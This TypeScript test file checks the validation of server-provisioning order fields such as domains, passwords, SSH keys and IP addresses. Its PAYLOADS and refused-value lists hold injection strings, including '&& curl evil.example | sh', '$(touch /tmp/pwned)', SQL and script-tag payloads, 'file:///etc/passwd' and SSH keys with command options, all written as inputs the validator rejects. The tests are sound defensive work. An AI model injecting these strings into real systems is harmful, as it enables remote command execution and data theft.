import { describe, expect, it } from '@jest/globals';
import { parse } from 'tldts';
import fc from 'fast-check';
import { builtInCatalogue, catalogueOf } from '../catalogue/catalogue';
import { Money } from '../money';
import { parseCidr } from '../servers/address';
import { checkDraft, envValues, type OrderExtras } from './check-draft';
import type { Draft } from './draft';
import { ENV_NAMES, ENV_VARIABLES } from './env';
import type { PackageConfig } from './package-config';

const everything: PackageConfig = {
  name: 'everything',
  display_name: 'Everything',
  admin_name: 'email',
  default_admin_subdomain: 'admin',
  details: [{ name: 'all', required_env: ['DOMAIN', 'EMAIL'], optional_env: ENV_NAMES.slice(2) }],
};
const bare: PackageConfig = {
  ...everything,
  name: 'bare',
  admin_name: undefined,
  default_admin_subdomain: null,
  details: [],
};
const catalogue = builtInCatalogue();
const order: Draft & OrderExtras = {
  package: 'everything',
  server_type: 'new',
  cloud_provider: 'hetzner',
  region: 'fsn1',
  instance_type: 'cpx22',
  support_level: 1,
  vps_ip_address: null,
  user_ssh_key: null,
  domain: 'example.com',
  admin_email: 'jane@example.com',
};
// Test domains do not belong to anyone.
const NAMES = { allowedZones: ['example.com', 'example'], parseName: parse };
const problems = (change: Record<string, unknown>, config: PackageConfig | null = everything) =>
  checkDraft({ ...order, ...change }, { config, catalogue, names: NAMES });

const ED25519 = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGHrx5ezV/6ObVhpU63nRAYMUC3jWjVEMBRgASUTqDkN';
const wire = (...fields: Buffer[]): string =>
  Buffer.concat(
    fields.flatMap((field) => [Buffer.from(Uint32Array.of(field.length).buffer).reverse(), field]),
  ).toString('base64');
const rsa = (bits: number): string =>
  `ssh-rsa ${wire(Buffer.from('ssh-rsa'), Buffer.from([1, 0, 1]), Buffer.concat([Buffer.from([0]), Buffer.alloc(bits / 8, 0xff)]))}`;

/** Values that no field of an order accepts. */
const PAYLOADS = [
  'a\nb',
  'a\r\nb',
  'a\u0000b',
  'a\u001b[31m',
  'x"\n  privileged: true',
  'x\u2028y',
  'x\u202ey',
  '$(touch /tmp/pwned)',
  '`touch /tmp/pwned`',
  '; reboot #',
  "' || reboot '",
  '${IFS}reboot',
  '&& curl evil.example | sh',
  '*anchor &a !!python/object',
  '{{ ref }}',
  '"; drop table users; --',
  '<script>alert(1)</script>',
  'x'.repeat(5000),
];

describe('valid order', () => {
  it('has no problems with the minimum of values', () => {
    expect(problems({})).toEqual([]);
    expect(problems({ package: 'bare', domain: null, admin_email: null }, bare)).toEqual([]);
  });

  it('has no problems with all values', () => {
    expect(
      problems({
        admin_subdomain: 'door',
        setup_token: 'abcdefghijklmnopqrstuvwxyz012345',
        admin_username: 'jane@example.com',
        admin_password: 'Correct-horse-7',
        crowdsec_enrollment_key: 'clapf3lqj0000356kdi8exxxx',
        static_page_subdomain: 'www',
        maxmind_license_key: 'AbC123_x0Yz',
        oauth_client_id: '123-abc.apps.googleusercontent.com',
        oauth_client_secret: 'GOCSPX-abc_def',
        komodo_host_ip: '5.9.0.1',
        komodo_passkey: 'a-long-enough-passkey!',
        openai_api_key: 'sk-proj-abc_DEF-123',
        traefik_subdomain: 'traefik',
        middleware_manager_subdomain: 'middleware-manager',
        logs_subdomain: 'logs',
        nlweb_subdomain: 'nlweb',
        user_ssh_key: `${ED25519} jane@laptop`,
        client_name: 'My shop 1',
        client_id: 'janepangolin123456',
        postgres_host: 'pangolin-postgres',
        postgres_user: 'pangolin',
        postgres_password: 'Secret+1',
        github_repo: '',
      }),
    ).toEqual([]);
  });

  it('may use an own server with a public address', () => {
    expect(
      problems({
        server_type: 'vps',
        vps_ip_address: '5.9.0.1',
        cloud_provider: null,
        region: null,
        instance_type: null,
      }),
    ).toEqual([]);
  });

  it('keeps only values that its package defines', () => {
    const draft = { ...order, openai_api_key: 'sk-1', admin_username: 'Jane Doe' };
    expect(checkDraft({ ...draft, package: 'bare' }, { config: bare, catalogue, names: NAMES })).toEqual([]);
    expect(envValues(draft, bare)).toEqual({ plain: {}, secret: {} });
  });

  it('rejects invalid values in a field that its package does not define', () => {
    expect(
      problems({ package: 'bare', openai_api_key: '$(reboot)', domain: 'no domain' }, bare).map(({ path }) => path),
    ).toEqual(['domain', 'openai_api_key']);
  });
});

describe('placement', () => {
  it.each([
    [{ server_type: null }, 'server_type'],
    [{ cloud_provider: null }, 'cloud_provider'],
    [{ cloud_provider: 'nowhere' }, 'cloud_provider'],
    [{ cloud_provider: '__proto__' }, 'cloud_provider'],
    [{ region: null }, 'region'],
    [{ region: 'us-east-1' }, 'region'],
    [{ instance_type: null }, 'instance_type'],
    [{ instance_type: 'cpx11' }, 'instance_type'],
    [{ instance_type: 'toString' }, 'instance_type'],
    [{ server_type: 'vps', vps_ip_address: null }, 'vps_ip_address'],
    [{ server_type: 'vps', vps_ip_address: '127.0.0.1' }, 'vps_ip_address'],
    [{ server_type: 'vps', vps_ip_address: '2130706433' }, 'vps_ip_address'],
    [{ server_type: 'vps', vps_ip_address: '::ffff:8.8.8.8' }, 'vps_ip_address'],
  ])('%j is a problem of %s', (change, path) => {
    expect(problems(change).map((problem) => problem.path)).toEqual([path]);
  });

  it('rejects a size that is too small for the package before a charge', () => {
    const needy: PackageConfig = { ...everything, requires: { cpu: 3, memory_gb: 4 } };
    expect(problems({}, needy)).toMatchObject([
      { path: 'instance_type', message: { detail: 'Everything needs 3 processors.' } },
    ]);
    expect(problems({}, { ...needy, requires: { cpu: 2, memory_gb: 4 } })).toEqual([]);
    // The preflight check decides whether a customer's own server is large enough.
    expect(problems({ server_type: 'vps', vps_ip_address: '8.8.8.8' }, needy)).toEqual([]);
  });

  it('allows loopback in a lab', () => {
    const allowed = parseCidr('127.0.0.0/8');
    const draft = { ...order, server_type: 'vps' as const, vps_ip_address: '127.0.0.2' };
    expect(
      checkDraft(draft, {
        config: everything,
        catalogue,
        allowedCidrs: allowed === null ? [] : [allowed],
        names: NAMES,
      }),
    ).toEqual([]);
  });

  it.each([
    [null, 'Choose a package.'],
    ['everything', 'There is no such package.'],
  ])('rejects the unknown package %s: %s', (name, message) => {
    expect(problems({ package: name }, null)).toMatchObject([{ path: 'package', message: { detail: message } }]);
  });
});

it.each(['Example.com', 'exämple.com', 'пример.рф'])('accepts a domain in the form %s', (domain) => {
  expect(problems({ domain })).toEqual([]);
});

describe('value that its field rejects', () => {
  const REFUSED: Record<string, readonly string[]> = {
    domain: [
      'example',
      'https://example.com',
      'example.com/',
      'exa mple.com',
      '-a.com',
      'a-.com',
      'a..com',
      '.com',
      'com.',
      'a_b.com',
      '1.2.3.4',
      `${'a'.repeat(64)}.com`,
      `${'a.'.repeat(126)}com`,
      'example.com:443',
      '*.example.com',
    ],
    admin_email: [
      'jane',
      'jane@',
      'jane@example',
      "o'brien@example.com",
      'a`b`@example.com',
      'jane@example.com, x@y.z',
      '$x@example.com',
    ],
    admin_subdomain: ['Admin', 'a.b', '-a', 'a-', 'a_b', 'ä', 'a'.repeat(64), '*'],
    setup_token: ['short', 'A'.repeat(32), 'a'.repeat(31), 'a'.repeat(33)],
    admin_username: ['Admin', 'jane', 'jane@example'],
    admin_password: [
      'Short-1',
      'alllowercase-1',
      'ALLUPPERCASE-1',
      'NoNumbersHere-',
      'NoSymbolsHere1',
      'Has Blank-1234',
      "Has'Quote-1234",
      'Has"Quote-1234',
      'Has`Tick-12345',
      'Has\\Slash-1234',
      'Has$Dollar-123',
      'Hás-Accent-1234',
      `Aa1-${'x'.repeat(61)}`,
    ],
    crowdsec_enrollment_key: ['short', 'A'.repeat(25), 'a'.repeat(41), 'clapf3lqj0000356kdi8 xxxx'],
    static_page_subdomain: ['WWW', 'w.w'],
    maxmind_license_key: ['has blank', 'quote"', 'x'.repeat(301)],
    komodo_host_ip: ['10.0.0.1', '169.254.169.254', 'localhost', '0x7f.1', '5.9.0.1/32'],
    komodo_passkey: ['short', 'has a blank in the middle', 'one-passkey,and-another', "quote'quote'quote'"],
    openai_api_key: ['sk- 1', 'sk-$HOME'],
    traefik_subdomain: ['a.b'],
    middleware_manager_subdomain: ['A'],
    logs_subdomain: ['_'],
    nlweb_subdomain: ['-'],
    user_ssh_key: [
      'ssh-ed25519',
      'ssh-ed25519 AAAA',
      'ssh-ed25519 !!!!',
      ED25519.replace('ssh-ed25519', 'ssh-rsa'),
      ED25519.slice(0, -4),
      `${ED25519}AAAA`,
      `command="id" ${ED25519}`,
      `from="*" ${ED25519}`,
      `${ED25519}\n${ED25519}`,
      `${ED25519} a"b`,
      `${ED25519} $(id)`,
      `  ${ED25519}`,
      rsa(1024),
      'ssh-dss AAAAB3NzaC1kc3MAAACB',
      '-----BEGIN OPENSSH PRIVATE KEY-----',
    ],
    client_name: ['-x', 'a;b', 'a"b', 'x'.repeat(65), 'a: b'],
    client_id: ['$x', 'a/b'],
    postgres_host: ['10.0.0.1', 'http://db', 'db:5432', 'DB'],
    postgres_user: ['1user', 'a b', 'a;b', 'x'.repeat(64)],
    postgres_password: ['has blank', 'quote"', '$x', 'x'.repeat(201)],
    github_repo: [
      'file:///etc/passwd',
      'git@github.com:a/b',
      'https://evil.example/a/b',
      'a/b;id',
      'a/..',
      '--upload-pack=x/y',
      'a',
    ],
  };

  const PARTNERS: Record<string, Record<string, string>> = {
    komodo_host_ip: { komodo_passkey: 'a-long-enough-passkey!' },
    komodo_passkey: { komodo_host_ip: '5.9.0.1' },
  };

  for (const [field, values] of Object.entries(REFUSED)) {
    it.each(values)(`${field} %j`, (value) => {
      const found = problems({ ...PARTNERS[field], [field]: value });
      expect(found.map(({ path }) => path)).toEqual([field]);
      expect(found[0]?.message.detail).toMatch(/^[A-Z].*(\.|-)$/);
      // An error never repeats the input, because it may be a secret.
      if (value.length > 12) expect(found[0]?.message.detail).not.toContain(value);
    });
  }

  const fields = [
    ...ENV_VARIABLES.map(({ field }) => field),
    'user_ssh_key',
    'client_name',
    'client_id',
    'postgres_host',
    'postgres_user',
    'postgres_password',
    'github_repo',
    'vps_ip_address',
  ];
  it.each(fields)('%s accepts no shell, YAML or HTML payload, no control character and no oversized value', (field) => {
    for (const payload of PAYLOADS) {
      const change = field === 'vps_ip_address' ? { server_type: 'vps', [field]: payload } : { [field]: payload };
      expect(problems(change).map(({ path }) => path)).toContain(field);
    }
  });

  it('property: an accepted value has no control character, quote, blank line or dollar sign', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...ENV_VARIABLES),
        fc.string({ unit: 'binary', maxLength: 80 }),
        (variable, value) => {
          if (value === '' || variable.check(value, { adminName: 'display_name' }) !== null) return;
          expect(value).toMatch(/^[^\p{C}$"'`\\]+$/u);
        },
      ),
      { numRuns: 2_000 },
    );
  });
});

describe('values that depend on each other', () => {
  it.each([
    [{ domain: '' }, 'domain'],
    [{ domain: '  ' }, 'domain'],
    [{ admin_email: null }, 'admin_email'],
    [{ oauth_client_id: 'a' }, 'oauth_client_secret'],
    [{ oauth_client_secret: 'a' }, 'oauth_client_id'],
    [{ komodo_host_ip: '5.9.0.1' }, 'komodo_passkey'],
    [{ komodo_passkey: 'a-long-enough-passkey!' }, 'komodo_host_ip'],
    [{ static_page_subdomain: 'admin' }, 'static_page_subdomain'],
    [{ admin_subdomain: 'logs', logs_subdomain: 'logs' }, 'logs_subdomain'],
  ])('%j is a problem of %s', (change, path) => {
    expect(problems(change).map((problem) => problem.path)).toContain(path);
  });

  describe('two names below the domain', () => {
    const hosts: PackageConfig = {
      ...everything,
      defaults: { ADMIN_SUBDOMAIN: 'admin', LOGS_SUBDOMAIN: 'logs' },
      dns: [
        { host: '{ADMIN_SUBDOMAIN}', required: true },
        { host: '{LOGS_SUBDOMAIN}', required: true, when: 'MAXMIND_LICENSE_KEY' },
        { host: 'oauth', required: true, when: 'CLIENT_ID' },
        { host: '*', required: false },
      ],
    };
    const OAUTH = { oauth_client_id: 'a', oauth_client_secret: 'b' };
    const TAKEN_BY_ADMIN = 'Admin Subdomain already uses this name. Each one needs its own.';
    it.each<[string, Record<string, string>, [string, string][]]>([
      ['that all differ are accepted', { admin_subdomain: 'door', traefik_subdomain: 'router', ...OAUTH }, []],
      [
        'that are typed twice are rejected',
        { admin_subdomain: 'door', traefik_subdomain: 'door' },
        [['traefik_subdomain', TAKEN_BY_ADMIN]],
      ],
      ['reject the default of an empty name', { traefik_subdomain: 'admin' }, [['traefik_subdomain', TAKEN_BY_ADMIN]]],
      [
        'reject the default of an empty name that is required later',
        { admin_subdomain: 'logs', maxmind_license_key: 'key' },
        [['admin_subdomain', 'Logs Subdomain already uses this name. Each one needs its own.']],
      ],
      ['accept the default of an inactive name', { admin_subdomain: 'logs' }, []],
      [
        'reject a name of the package itself',
        { static_page_subdomain: 'oauth', ...OAUTH },
        [['static_page_subdomain', 'The package itself uses the name oauth. Choose another.']],
      ],
      ['accept an inactive name of the package', { static_page_subdomain: 'oauth' }, []],
      [
        'that occur three times are rejected',
        { static_page_subdomain: 'admin', traefik_subdomain: 'admin' },
        [
          ['static_page_subdomain', TAKEN_BY_ADMIN],
          ['traefik_subdomain', TAKEN_BY_ADMIN],
        ],
      ],
    ])('%s', (_, change, expected) => {
      expect(problems(change, hosts).map(({ path, message }) => [path, message.detail])).toEqual(expected);
    });
  });

  it('rejects an email as admin of Coolify and a display name as admin of Pangolin', () => {
    const named: PackageConfig = { ...everything, admin_name: 'display_name' };
    expect(problems({ admin_username: 'Jane Doe' }, named)).toEqual([]);
    expect(problems({ admin_username: 'jane@example.com' }, named).map(({ path }) => path)).toEqual(['admin_username']);
  });
});

describe('stored values', () => {
  it('are split into plain values and secrets, by env name, with the default admin subdomain', () => {
    expect(envValues({ ...order, admin_password: 'Correct-horse-7', openai_api_key: '' }, everything)).toEqual({
      plain: { DOMAIN: 'example.com', EMAIL: 'jane@example.com', ADMIN_SUBDOMAIN: 'admin' },
      secret: { ADMIN_PASSWORD: 'Correct-horse-7' },
    });
  });
});

describe('RSA key', () => {
  it('is accepted with 2048 bits', () => {
    expect(problems({ user_ssh_key: rsa(2048) })).toEqual([]);
  });
});

describe('domain of an order draft', () => {
  const refused = (domain: string, allowedZones: readonly string[]) =>
    checkDraft(
      { ...order, admin_email: 'jane@harbour.de', domain },
      { config: everything, catalogue, names: { allowedZones, parseName: parse } },
    ).map(({ path }) => path);

  it('is rejected if it cannot point to a server, unless the installation has its zone', () => {
    expect(refused('shop.local', [])).toEqual(['domain']);
    expect(refused('shop.local', ['local'])).toEqual([]);
    expect(refused('github.io', ['local'])).toEqual(['domain']);
  });

  it('is rejected for the contact if it cannot have a mailbox', () => {
    const names = { allowedZones: [], parseName: parse };
    const problems = (admin_email: string) =>
      checkDraft({ ...order, domain: 'harbour.de', admin_email }, { config: everything, catalogue, names });
    expect(problems('admin@example.com')).toMatchObject([
      { path: 'admin_email', message: { code: 'order.contact_reserved', facts: { domain: 'example.com' } } },
    ]);
    expect(problems('admin@harbour.de')).toEqual([]);
  });

  it('is rejected once if malformed', () => expect(refused('no domain', [])).toEqual(['domain']));
});

describe('sold-out size in an order draft', () => {
  const size = (name: string, cpu: number, hourly: number, available: boolean) => ({
    name,
    displayName: `${name.toUpperCase()} (remark)`,
    cpu,
    memoryGb: 4,
    hourlyCost: Money.of(hourly),
    available,
  });
  const where = (...instanceTypes: ReturnType<typeof size>[]) =>
    catalogueOf([
      { provider: 'hetzner', regions: [{ name: 'fsn1', displayName: 'x', countryCode: 'de', instanceTypes }] },
    ]);
  const needing = { ...everything, requires: { cpu: 2, memory_gb: 4 } };
  const refusals = (...types: ReturnType<typeof size>[]) =>
    checkDraft(order, { config: needing, catalogue: where(...types), names: NAMES }).map(({ path, message }) => [
      path,
      message.detail,
    ]);

  it('is rejected with the nearest size that is large enough', () => {
    expect(refusals(size('cpx22', 2, 0.03, false), size('tiny', 1, 0.01, true), size('cpx32', 4, 0.05, true))).toEqual([
      ['instance_type', 'CPX22 is sold out in this region. CPX32 is available.'],
    ]);
  });

  it('is rejected with another region if no size is available', () => {
    expect(refusals(size('cpx22', 2, 0.03, false), size('tiny', 1, 0.01, true))).toEqual([
      [
        'instance_type',
        'CPX22 is sold out in this region, and so are all suitable alternatives. Choose another region.',
      ],
    ]);
  });

  it('is accepted once it is available', () => {
    expect(refusals(size('cpx22', 2, 0.03, true), size('cpx32', 4, 0.02, false))).toEqual([]);
  });
});
